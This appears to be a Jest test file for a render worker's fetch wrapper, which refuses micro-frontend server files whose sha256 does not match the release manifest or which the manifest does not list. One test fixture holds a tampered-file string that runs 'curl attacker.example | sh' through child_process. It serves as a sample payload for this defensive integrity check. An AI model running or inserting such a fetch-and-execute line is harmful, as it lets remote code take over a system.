/** @jest-environment node */
import { integrityOf } from '@fns/server-kit/integrity';
import { liveRemote } from '../../test-support/live-remote';
import { releaseFiles, verifyingFetch } from '../verified-fetch';

const ENTRY = 'server/remoteEntry.0123456789.js';
const CHUNK = 'server/123.0123456789.js';
const registered = { [ENTRY]: 'module.exports = "the entry as built";', [CHUNK]: 'exports.id = 123;' };

/** The blog release as the worker holds it: its manifest lists both server files with their sha256. */
const blog = liveRemote('mfe_blog', '1.1.0');
blog.manifest.integrity = Object.fromEntries(Object.entries(registered).map(([file, code]) => [file, integrityOf(code)]));
const folder = new URL('.', blog.manifestUrl).href;

/** A network that serves `files` (by URL), and the API's answers; it records what was asked. */
function network(files: Record<string, string>) {
  const asked: string[] = [];
  const base = (input: string | URL | Request) => {
    const url = typeof input === 'string' ? input : input instanceof URL ? input.href : input.url;
    asked.push(url);
    const body = files[url] ?? (url.startsWith('https://api.example/') ? '[]' : undefined);
    return Promise.resolve(body === undefined ? new Response('not found', { status: 404 }) : new Response(body));
  };
  return { asked, fetch: verifyingFetch(base, releaseFiles({ mfe_blog: blog })) };
}

describe("the render worker's fetch", () => {
  it("hands over a release's server files whose bytes are those registered", async () => {
    const { fetch } = network({ [`${folder}${ENTRY}`]: registered[ENTRY], [`${folder}${CHUNK}`]: registered[CHUNK] });
    expect(await (await fetch(`${folder}${ENTRY}`)).text()).toBe(registered[ENTRY]);
    expect(await (await fetch(`${folder}${CHUNK}`)).text()).toBe(registered[CHUNK]);
  });

  it('refuses an entry or a chunk whose bytes changed after registration, before anything runs it', async () => {
    const changed = 'require("node:child_process").exec("curl attacker.example | sh")';
    const { fetch } = network({ [`${folder}${ENTRY}`]: changed, [`${folder}${CHUNK}`]: changed });
    await expect(fetch(`${folder}${ENTRY}`)).rejects.toThrow(
      `${folder}${ENTRY} is not the file its release names (its sha256 differs): not run`,
    );
    await expect(fetch(`${folder}${CHUNK}`)).rejects.toThrow(/its sha256 differs/);
  });

  it("refuses a script from a release's folder that its manifest does not list, and lets the API's reads through", async () => {
    const { fetch, asked } = network({ [`${folder}server/999.evil.js`]: 'bad' });
    await expect(fetch(`${folder}server/999.evil.js`)).rejects.toThrow(/is not a file of its release: not run/);
    expect(asked).toEqual([]);
    expect(await (await fetch('https://api.example/api/posts')).text()).toBe('[]');
  });
});
